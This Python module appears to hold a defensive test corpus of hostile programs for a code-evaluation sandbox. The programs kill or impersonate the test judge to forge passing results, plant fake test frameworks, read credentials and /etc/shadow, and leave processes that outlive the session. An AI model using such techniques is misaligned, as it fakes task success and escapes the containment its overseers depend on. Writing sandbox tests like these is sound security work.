# ruff: noqa: E501 - programs keep their lines
"""A second round on the newest parts: who judges, the machine's files, the interpreter's end, leftovers, tools.

Programs with tests satisfy none of them: whatever they reach, their tests fail.
"""

from __future__ import annotations

from textwrap import dedent

from .model import Attempt, Hostile, hostile

_PLANTED: Attempt = ("file", "/etc/planted")
_PLANT = """
import atexit, ctypes, gc, os, signal, socket, sys, threading, time
def plant(*_):
    try: os.close(os.open("/etc/planted", os.O_WRONLY | os.O_CREAT)); os.write(1, b"BREACH")
    except OSError: pass
"""
_SHELL_PLANTS = "(echo x > /etc/planted) 2>/dev/null && echo BREACH"

_TESTS = "assert f(1) == 2\nassert f(2) == 3\n"
_FAILS = "assertion_failure exception killed tests_not_run"
_JUDGED = """
import ctypes, errno, gc, json, os, signal, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
def others(): return [pid for pid in range(2, 60) if pid != os.getpid()]
def tokens(): return {one.token for one in gc.get_objects() if type(one).__name__ == "Reporter"}
def say(**fields):
    for token in [*tokens(), "0" * 32]:
        text = json.dumps({"token": token, "parts": [], **fields}).encode()
        try: os.write(900, struct.pack("!II", len(text), 0) + text)
        except OSError: pass
def f(n): return 0
"""


def _judged(name: str, body: str, tests: str = _TESTS, attempt: Attempt | None = None) -> Hostile:
    classes = _FAILS if attempt is None else "unsafe_operation"
    return hostile(name, _JUDGED + dedent(body), attempt, classes, timeout_s=30.0, tests=tests)


def _at_end(name: str, body: str, attempt: Attempt | None = _PLANTED, classes: str = "ok") -> Hostile:
    return hostile(name, _PLANT + dedent(body), attempt, classes)


def _opening(name: str, paths: str, attempt: Attempt, flags: str) -> Hostile:
    body = f"""
    import os
    for path in {paths.split()!r}:
        try: fd = os.open(path, {flags})
        except OSError: continue
        print("BREACH", path)
    """
    return hostile(name, body, attempt, "ok")


def _shell(name: str, body: str, attempt: Attempt | None = _PLANTED, classes: str = "ok") -> Hostile:
    return hostile(
        name, dedent(body).replace("PLANT", _SHELL_PLANTS) + "\nexit 0\n", attempt, classes, "bash"
    )


_JUDGES = [
    _judged(
        "a judge that is killed, and its word in its stead",
        """
        for pid in others():
            try: os.kill(pid, signal.SIGKILL)
            except OSError: pass
        for number in range(2): say(kind="test", number=number, passed=True)
        say(kind="finished")
        """,
    ),
    _judged(
        "tests that are asked for once more",
        """
        say(kind="judge", hidden=True)
        say(kind="waiting")
        os.set_blocking(900, False); time.sleep(0.3)
        try: found = os.read(900, 65536)
        except OSError: found = b""
        if b"assert" in found or b"tests" in found: print("BREACH", found)
        """,
    ),
    _judged(
        "memory that is closed as a judge closes its own",
        """
        if libc.prctl(4, 0, 0, 0, 0) == 0: print("BREACH")
        if os.fork() == 0: os._exit(42 if libc.prctl(4, 0, 0, 0, 0) == 0 else 0)
        if os.waitstatus_to_exitcode(os.wait()[1]): print("BREACH")
        """,
    ),
    _judged(
        "the memory and the descriptors of who judges",
        """
        for pid in others():
            for name in ("mem", "environ", "maps", "fd", "cwd/.", "root/.", "fdinfo", "task"):
                path = f"/proc/{pid}/{name}"
                try: found = os.listdir(path) if name in ("fd", "fdinfo", "task", "cwd/.", "root/.") else open(path, "rb", 0).read(1)
                except OSError: continue
                if found and name in ("mem", "environ", "fd", "fdinfo"): print("BREACH", path)
            buffer = ctypes.create_string_buffer(8)
            local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 8)
            if libc.process_vm_readv(pid, local, 1, local, 1, 0) > 0: print("BREACH", pid)
        """,
        attempt=("privilege", "process_vm_readv"),
    ),
    _judged(
        "an end that is announced before any test",
        """
        from spanproof.sandbox.guest import candidate
        candidate.wait_for_message = lambda stream: ["done", 0]
        candidate.Candidate.run_until_done = lambda self: 0
        """,
    ),
    _judged(
        "answers of no form",
        """
        from spanproof.sandbox.guest import candidate
        forms = iter([["value"], ["value", None, [], 7], ["value", {"a": 1}, [[["x"]]], ["f"] * 100_000], [], None, ["value", ["object", -1], [], []]])
        true = candidate.send_message
        candidate.send_message = lambda stream, message: true(stream, next(forms, message) if message[0] == "value" and len(message) == 4 else message)
        """,
    ),
    _judged(
        "names that are always new",
        """
        from spanproof.sandbox.guest import candidate
        count = [1]
        def rebound(self):
            count[0] += 1
            globals()["f"] = lambda n, kept=count[0]: kept if n == 1 else f
            return ["f", "assert", "type", "__builtins__", None, 3]
        candidate.Candidate._list_rebound_names = rebound
        f = type("F", (), {"__call__": lambda self, n: self, "__eq__": lambda self, other: True, "__hash__": lambda self: 0})()
        """,
    ),
    _judged(
        "an end in the middle of an answer",
        """
        def f(n):
            signal.signal(signal.SIGALRM, lambda *_: os._exit(0)); signal.setitimer(signal.ITIMER_REAL, 0.01)
            return time.sleep(5)
        """,
    ),
    _judged(
        "a child that answers for its parent",
        """
        def f(n):
            if os.fork(): os._exit(0)
            for number in range(2): say(kind="test", number=number, passed=True)
            return True
        """,
    ),
    _judged(
        "a judge that is stopped while all is well",
        """
        def f(n):
            for pid in others():
                try: os.kill(pid, signal.SIGSTOP)
                except OSError: pass
            say(kind="planned", total=0, names=[], collector=""); say(kind="inside")
            os._exit(0)
        """,
    ),
    _judged(
        "a module of tests that is another's",
        """
        import site
        text = "import os\\nos.write(1, b'BREACH')\\nclass TestCase: pass\\ndef main(*a, **k): os._exit(0)\\n"
        for folder in (".", "src", site.getusersitepackages(), os.path.expanduser("~")):
            for name in ("unittest.py", "pytest.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "planted.pth"):
                try: os.makedirs(folder, exist_ok=True); open(f"{folder}/{name}", "w").write(text)
                except OSError: pass
        """,
        "import unittest\nassert f(1) == 2\nimport doctest\nassert f(2) == 3\n",
    ),
    _judged(
        "numbers that are used up until the judge's comes again",
        """
        for pid in others():
            try: os.kill(pid, signal.SIGKILL)
            except OSError: pass
        for _ in range(40):
            if os.fork() == 0: os._exit(0)
            os.wait()
        if os.fork() == 0:
            time.sleep(0.2); say(kind="test", number=0, passed=True); os._exit(0)
        os._exit(0)
        """,
    ),
]

_MACHINE = [
    _opening(
        "numbers of processes, and namespaces, opened to write",
        "/proc/sys/kernel/ns_last_pid /proc/sys/kernel/pid_max /proc/sys/user/max_user_namespaces /proc/self/timens_offsets"
        " /proc/sys/kernel/random/urandom_min_reseed_secs /proc/sys/vm/overcommit_memory /proc/sys/fs/binfmt_misc/register",
        ("file", "/proc/sys/kernel/ns_last_pid"),
        "os.O_WRONLY",
    ),
    _opening(
        "pages of the machine by number",
        "/proc/kpagecount /proc/kpageflags /proc/kpagecgroup /proc/iomem /proc/ioports /proc/vmallocinfo /proc/slabinfo",
        ("file", "/proc/kpagecount"),
        "os.O_RDONLY",
    ),
    _opening(
        "what the kernel tells those who debug it",
        "/sys/kernel/debug/sched/debug /sys/kernel/tracing/trace_pipe /proc/timer_list /proc/sched_debug /proc/latency_stats"
        " /sys/kernel/security/apparmor/profiles /sys/fs/bpf /proc/dynamic_debug/control",
        ("file", "/sys/kernel/debug"),
        "os.O_RDONLY",
    ),
    _opening(
        "devices that make devices",
        "/dev/fuse /dev/net/tun /dev/kvm /dev/vhost-vsock /dev/userfaultfd /dev/loop-control /dev/mapper/control /dev/kmsg"
        " /dev/snapshot /dev/vfio/vfio /dev/port /dev/hwrng",
        ("file", "/dev/fuse"),
        "os.O_RDWR",
    ),
    _opening(
        "control groups that are another's",
        "/sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/cgroup.subtree_control /sys/fs/cgroup/memory/memory.limit_in_bytes"
        " /sys/fs/cgroup/memory/notify_on_release /sys/fs/cgroup/devices/devices.allow",
        ("file", "/sys/fs/cgroup"),
        "os.O_WRONLY",
    ),
    hostile(
        "its own maps of users, written again",
        """
        import os
        for name, text in (("uid_map", b"0 0 4294967295"), ("gid_map", b"0 0 4294967295"), ("setgroups", b"allow"), ("projid_map", b"0 0 1"), ("loginuid", b"0"), ("oom_score_adj", b"-1000"), ("attr/exec", b"unconfined")):
            try: fd = os.open(f"/proc/self/{name}", os.O_WRONLY); os.write(fd, text); print("BREACH", name)
            except OSError: pass
        if os.getuid() == 0 and os.path.exists("/etc/shadow") and os.access("/etc/shadow", os.R_OK): print("BREACH")
        """,
        None,
        "ok",
    ),
    hostile(
        "where the box lies on the machine",
        """
        import os
        folder = os.path.dirname("{canary}")
        for name in ("mountinfo", "mounts", "mountstats", "maps", "cgroup", "environ", "smaps"):
            try: text = open(f"/proc/self/{name}", errors="replace").read()
            except OSError: continue
            if folder in text or "SPANPROOF_CANARY" in text: print("BREACH", name)
        """,
        None,
        "ok",
    ),
    hostile(
        "sockets of the machine by all their lists",
        """
        import os, socket
        for name in ("unix", "tcp", "tcp6", "udp", "raw", "packet", "netlink", "ptype", "igmp"):
            for base in ("/proc/net", "/proc/self/net", "/proc/thread-self/net", "/proc/1/net"):
                try: text = open(f"{base}/{name}").read()
                except OSError: continue
                if "{abstract}" in text or f":{{port}:04X} " .replace("{port}", "%04X" % int("{port}")) in text: print("BREACH", base, name)
        for family, kind, number in ((16, 3, 15), (16, 3, 4), (17, 3, 768), (40, 1, 0), (38, 5, 0), (44, 3, 0)):
            try: one = socket.socket(family, kind, number); one.bind((0, 1)) if family == 16 else None; print("BREACH", family)
            except (OSError, OverflowError, TypeError): pass
        raise OSError("refused")
        """,
        ("privilege", "socket"),
        "unsafe_operation",
    ),
    _shell(
        "secrets of others by a search of all processes",
        r"""
        for p in /proc/[0-9]*; do
          [ "$p" = "/proc/$$" ] && continue
          tr '\0' '\n' < "$p/environ" 2>/dev/null | grep -q '^SPANPROOF_CANARY=' && echo BREACH "$p"
          cat "$p/root/etc/shadow" "$p/cwd/../../etc/shadow" 2>/dev/null | grep -q ':' && echo BREACH "$p"
        done
        cat /etc/shadow 2>/dev/null && echo BREACH
        """,
        ("file", "/etc/shadow"),
    ),
    hostile(
        "a file of the machine in a mapping that may be written",
        """
        import mmap, os
        for path in ("/proc/meminfo", "/etc/passwd", "/proc/self/exe", "/usr/bin/env"):
            for flags, protection in ((os.O_RDWR, mmap.PROT_WRITE), (os.O_RDONLY, mmap.PROT_READ | mmap.PROT_WRITE)):
                try: fd = os.open(path, flags); mmap.mmap(fd, 4096, mmap.MAP_SHARED, protection)[0:1] = b"X"; print("BREACH", path)
                except (OSError, ValueError, TypeError): pass
        """,
        ("file", "/usr/bin/env"),
        "ok",
    ),
    hostile(
        "links that leave by the descriptors of a directory",
        """
        import os
        os.symlink("/", "out"); os.symlink("out/etc", "etc"); os.mkdir("d")
        here, d = os.open(".", os.O_RDONLY), os.open("d", os.O_RDONLY)
        for path, fd in (("out/etc/shadow", here), ("../etc/shadow", d), ("/proc/self/fd/%d/../etc/shadow" % d, None), ("../../../../../../etc/shadow", d)):
            try: os.open(path, os.O_RDONLY, dir_fd=fd); print("BREACH", path)
            except OSError: pass
        for call in (lambda: os.rename("/etc/hosts", "hosts"), lambda: os.link("/etc/hosts", "hosts"), lambda: os.link("/etc/shadow", "s", follow_symlinks=False), lambda: os.chroot("d")):
            try: call(); print("BREACH")
            except OSError: pass
        """,
        ("file", "/etc/shadow"),
        "ok unsafe_operation",
    ),
    hostile(
        "events of the kernel and of every file",
        """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for name, arguments in (("fanotify_init", (0x600, 0)), ("quotactl", (0x800001, b"/", 0, None)), ("acct", (b"acct",)), ("swapoff", (b"/x",)), ("vhangup", ())):
            if getattr(libc, name)(*arguments) >= 0: print("BREACH", name)
        raise OSError("refused")
        """,
        ("privilege", "fanotify_init"),
        "unsafe_operation",
    ),
]

_ENDS = [
    _at_end(
        "a class that acts when one looks whether it ends",
        """
        class Meta(type):
            def __getattr__(cls, name): plant(); raise AttributeError(name)
        class Kept(metaclass=Meta): __slots__ = ()
        kept = [Kept(), Kept]
        """,
    ),
    _at_end(
        "a finalizer of a module that is emptied last",
        """
        import types
        class End:
            def __init__(self, act): self.act = act
            def __del__(self): self.act()
        late = types.ModuleType("zzz"); late.end = End(plant); sys.modules["zzz"] = late
        sys.zzz = End(plant); __builtins__.zzz = End(plant)
        """,
    ),
    _at_end(
        "a collector of garbage that calls back",
        """
        gc.callbacks.append(lambda phase, info: plant())
        class Loop: pass
        loop = Loop(); loop.self = loop; del loop; gc.collect()
        """,
    ),
    _at_end(
        "a trace of the interpreter's own end",
        """
        def trace(frame, event, argument):
            if frame.f_code.co_name in ("run_shutdown", "_close_interpreter", "flush", "__del__"): plant()
            return trace
        sys.setprofile(trace); atexit.register(plant)
        """,
    ),
    _at_end(
        "a hook of audits that outlives all",
        """
        def hook(event, arguments):
            if event in ("cpython._PySys_ClearAuditHooks", "os.fork", "gc.get_objects"): plant()
        sys.addaudithook(hook); gc.get_objects()
        """,
    ),
    _at_end(
        "an exit function in C",
        """
        kept = ctypes.CFUNCTYPE(None)(plant)
        ctypes.pythonapi.Py_AtExit(kept); plant()
        """,
    ),
    _at_end(
        "an exit function that becomes a shell",
        """
        atexit.register(lambda: os.execv("/bin/bash", ["bash", "-c", "(echo x > /etc/planted) 2>/dev/null && echo BREACH; exit 0"]))
        """,
    ),
    _at_end(
        "an end that forks until it is heard",
        """
        def last():
            for _ in range(3):
                if os.fork() == 0: plant(); os._exit(0)
                os.wait()
        atexit.register(last)
        """,
    ),
    _at_end(
        "threads that are registered with the interpreter's end",
        """
        threading._register_atexit(plant)
        threading.Thread(target=lambda: (threading.main_thread().join(), plant())).start()
        """,
    ),
    _at_end(
        "streams whose end is a deed",
        """
        class Stream:
            encoding = "utf-8"
            def write(self, text): return len(text)
            def flush(self): plant()
            def __del__(self): plant()
        sys.stdout = sys.stderr = sys.__stdout__ = Stream()
        """,
    ),
    _at_end(
        "an exit code that acts as it is printed",
        """
        class Code:
            def __str__(self): plant(); return "no"
            __repr__ = __str__
        raise SystemExit(Code())
        """,
        _PLANTED,
        "exception",
    ),
    _at_end(
        "an end without a runner",
        """
        for name in ("_exit", "write", "waitpid"): setattr(os, name, plant)
        for module in [one for name, one in sys.modules.items() if name.startswith("spanproof.")]:
            for name in list(vars(module)):
                if "exit" in name or "flush" in name or "report" in name.lower(): setattr(module, name, plant)
        atexit.register(plant); sys.modules.clear()
        """,
        _PLANTED,
        "ok exception killed timeout",
    ),
]

_LEFTOVERS = [
    _shell(
        "a job that waits for the shell's own end",
        "trap '' HUP TERM\n( while kill -0 $$ 2>/dev/null; do sleep 0.05; done; sleep 0.3; PLANT ) & disown -a",
        None,
    ),
    _shell("a process that a coprocess leaves", "coproc { sleep 0.4; PLANT; }\nexec 3>&-", None),
    _shell(
        "an output that never ends",
        "yes survivor > /dev/null & yes survivor | head -c 100000 & sleep 0.1",
        ("process", "yes"),
        "ok output_limit",
    ),
    _at_end(
        "a copy of a shell that has no name",
        """
        with open("/bin/bash", "rb") as shell, open("copy", "wb") as copy: copy.write(shell.read())
        os.chmod("copy", 0o700); fd = os.open("copy", os.O_RDONLY); os.unlink("copy")
        if os.fork() == 0:
            os.setsid(); time.sleep(0.1)
            os.execve(fd, ["bash", "-c", "(echo x > /etc/planted) 2>/dev/null && echo BREACH"], {})
        time.sleep(0.4)
        """,
    ),
    _at_end(
        "a thread that is in a call as the program ends",
        """
        libc = ctypes.CDLL(None)
        threading.Thread(target=lambda: (libc.usleep(200_000), plant()), daemon=True).start()
        """,
        None,
    ),
    _at_end(
        "a timer of the kernel that names its thread",
        """
        signal.signal(signal.SIGRTMIN, plant); signal.setitimer(signal.ITIMER_REAL, 0.05, 0.05); signal.signal(signal.SIGALRM, plant)
        time.sleep(0.2)
        """,
    ),
    _at_end(
        "input and output by a ring that outlives its owner",
        """
        result = ctypes.CDLL(None, use_errno=True).syscall(425, 8, ctypes.create_string_buffer(240))
        if result >= 0: print("BREACH")
        raise OSError("refused")
        """,
        None,
        "exception unsafe_operation",
    ),
    _at_end(
        "a descriptor on its way, with no process to hold it",
        """
        ours, theirs = socket.socketpair()
        fd = os.open(".", os.O_RDONLY)
        for _ in range(3): socket.send_fds(ours, [b"x"], [fd, theirs.fileno()])
        del ours, theirs; os.close(fd); plant()
        """,
    ),
    _at_end(
        "memory and queues that belong to no process",
        """
        libc = ctypes.CDLL(None, use_errno=True)
        for key in range(1, 40): libc.shmget(key, 1 << 20, 0o1666); libc.msgget(key, 0o1666); libc.semget(key, 1, 0o1666)
        for key in range(1, 4): libc.mq_open(b"/left%d" % key, os.O_CREAT | os.O_RDWR, 0o666, None)
        plant()
        """,
    ),
    hostile(
        "a Node.js worker and a child without a reference",
        """
        const { spawn } = require('node:child_process'), { Worker } = require('node:worker_threads');
        const plant = "try { require('fs').writeFileSync('/etc/planted', 'x'); require('fs').writeSync(1, 'BREACH'); } catch {}";
        spawn(process.execPath, ['-e', `setTimeout(() => { ${plant} }, 300)`], { detached: true, stdio: 'ignore' }).unref();
        new Worker(plant, { eval: true }).unref();
        process.on('exit', () => { eval(plant); });
        """,
        _PLANTED,
        "ok",
        "javascript",
    ),
    _at_end(
        "a debugger that waits for its child",
        """
        libc = ctypes.CDLL(None, use_errno=True)
        if os.fork() == 0:
            if libc.ptrace(0, 0, 0, 0) == 0: os.write(1, b"BREACH")
            os._exit(0)
        os.wait(); raise OSError("refused")
        """,
        ("privilege", "ptrace"),
        "unsafe_operation",
    ),
    _at_end(
        "a lock on a file, and a lease on another, for the next",
        """
        import fcntl
        left = open("/dev/shm/left", "w"); fcntl.lockf(left, fcntl.LOCK_EX); fcntl.flock(left, fcntl.LOCK_EX)
        if os.fork() == 0: os.setsid(); time.sleep(30)
        plant()
        """,
    ),
]

_GIT = "git init -q r 2>/dev/null && cd r || { PLANT; exit 0; }\n"
_TOOLS = [
    _shell(
        "an alias of git, and its editor",
        _GIT
        + "git -c alias.st='!sh -c \"(echo x > /etc/planted) 2>/dev/null && echo BREACH\"' st\nGIT_EDITOR='sh -c \"(echo x > /etc/planted) && echo BREACH\"' git commit --allow-empty -q 2>/dev/null",
    ),
    _shell(
        "a hook that git runs",
        _GIT
        + "printf '#!/bin/sh\\n%s\\n' '(echo x > /etc/planted) 2>/dev/null && echo BREACH; exit 0' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit\ngit -c user.name=a -c user.email=a@b commit -q --allow-empty -m x",
    ),
    _shell(
        "a filter of git that is a program",
        _GIT
        + "echo '* filter=x' > .gitattributes; git config filter.x.clean 'sh -c \"(echo x > /etc/planted) 2>/dev/null && echo BREACH; cat\"'; echo a > a; git add a 2>/dev/null",
    ),
    _shell(
        "an archive that leads out",
        "mkdir t; ln -s /etc t/e; tar -cf a.tar -C t e 2>/dev/null; tar -xf a.tar; echo x > planted; tar -rf b.tar planted; tar -xf b.tar -C e 2>/dev/null && echo BREACH\nPLANT",
    ),
    _shell(
        "a sort and a split that start programs",
        "seq 9 | split -l 3 --filter='sh -c \"(echo x > /etc/planted) 2>/dev/null && echo BREACH; cat\"' - >/dev/null\nsort --compress-program=./nowhere -S 1k /dev/null",
    ),
    _shell(
        "a script that sed and awk write and run",
        "echo x | sed 's/x/true/e; w /etc/planted' 2>/dev/null && echo BREACH\nawk 'BEGIN { print \"x\" > \"/etc/planted\" }' 2>/dev/null && echo BREACH\nPLANT",
    ),
    _shell(
        "a name of a loader in a variable",
        "LD_PRELOAD=/etc/shadow LD_AUDIT=./a.so PYTHONSTARTUP=/etc/planted BASH_ENV=/etc/shadow bash -c ': < /etc/shadow' 2>/dev/null && echo BREACH",
        ("file", "/etc/shadow"),
    ),
    _shell(
        "a copy of a tool under the name of another",
        "cp /bin/bash ./kubectl; ./kubectl -c '(echo x > /etc/planted) 2>/dev/null && echo BREACH'; ln -s /bin/bash docker; PATH=.:$PATH docker -c '(echo x > /etc/planted) 2>/dev/null && echo BREACH'",
    ),
    _shell(
        "a redirection to a host that bash makes itself",
        "(exec 3<>/dev/tcp/192.0.2.1/443 && echo BREACH) 2>/dev/null; (echo x > /dev/udp/192.0.2.1/53 && :) 2>/dev/null",
        ("network", "192.0.2.1:443"),
    ),
    _shell(
        "a socket of an engine of containers, by links",
        "mkdir run; ln -s /var/run/docker.sock d.sock; ln -s d.sock e.sock; cat e.sock 2>/dev/null && echo BREACH\ncat < /var/run/docker.sock 2>/dev/null && echo BREACH",
        ("file", "docker.sock"),
    ),
    _shell(
        "the credentials of clouds and registries",
        'for f in ~root/.aws/credentials /root/.kube/config /root/.docker/config.json /root/.ssh/id_rsa /home/*/.netrc /var/run/secrets/kubernetes.io/serviceaccount/token; do cat "$f" 2>/dev/null && echo BREACH; done',
        ("file", "/root/.kube/config"),
    ),
    hostile(
        "a pager and a shell by the tools of Python",
        """
        import os, pydoc, subprocess, webbrowser
        deed = "(echo x > /etc/planted) 2>/dev/null && echo BREACH"
        os.environ.update(PAGER=f"sh -c '{deed}'", BROWSER=f"sh -c '{deed}'", EDITOR="sh", MANPAGER="sh")
        for act in (lambda: pydoc.pipepager("x", os.environ["PAGER"]), lambda: webbrowser.open("http://192.0.2.1"), lambda: subprocess.run(deed, shell=True), lambda: os.system(deed)):
            try: act()
            except Exception: pass
        """,
        _PLANTED,
        "ok",
    ),
]

SNIPPETS: list[Hostile] = [*_JUDGES, *_MACHINE, *_ENDS, *_LEFTOVERS, *_TOOLS]
